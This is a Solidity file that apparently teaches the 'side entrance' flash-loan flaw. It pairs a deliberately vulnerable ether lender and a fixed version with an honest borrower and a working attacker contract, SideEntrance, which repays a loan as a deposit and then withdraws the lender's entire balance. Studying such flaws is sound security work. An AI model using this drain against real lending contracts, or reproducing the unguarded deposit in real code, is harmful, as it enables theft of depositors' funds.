// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

interface IBorrower {
    function borrowed() external payable;
}

/// @notice VULNERABLE (side entrance): a loan that is out may come back as a deposit.
contract EtherLender {
    mapping(address => uint256) public balances;
    bool internal lent;

    function deposit() external payable virtual {
        balances[msg.sender] += msg.value;
    }

    function repay() external payable {}

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        balances[msg.sender] = 0;
        (bool sent,) = msg.sender.call{value: amount}("");
        require(sent, "not sent");
    }

    function lend(uint256 amount) external {
        uint256 before = address(this).balance;
        lent = true;
        IBorrower(msg.sender).borrowed{value: amount}();
        lent = false;
        require(address(this).balance >= before, "not paid back");
    }
}

/// @notice The same, corrected: no deposits while a loan is out.
contract EtherLenderFixed is EtherLender {
    function deposit() external payable override {
        require(!lent, "a loan is out");
        balances[msg.sender] += msg.value;
    }
}

/// @notice Pays a loan back by a deposit, and takes the deposit out.
contract SideEntrance is IBorrower {
    EtherLender private lender;

    function run(EtherLender lender_) external {
        lender = lender_;
        lender.lend(address(lender).balance);
        lender.withdraw();
        (bool sent,) = msg.sender.call{value: address(this).balance}("");
        require(sent, "not sent");
    }

    function borrowed() external payable {
        lender.deposit{value: msg.value}();
    }

    receive() external payable {}
}

/// @notice Pays a loan back as it should, and deposits ether of its own meanwhile.
contract HonestBorrower is IBorrower {
    EtherLender private lender;

    function run(EtherLender lender_) external payable {
        lender = lender_;
        lender.lend(address(lender).balance / 2);
    }

    function borrowed() external payable {
        lender.deposit{value: address(this).balance - msg.value}();
        lender.repay{value: msg.value}();
    }
}
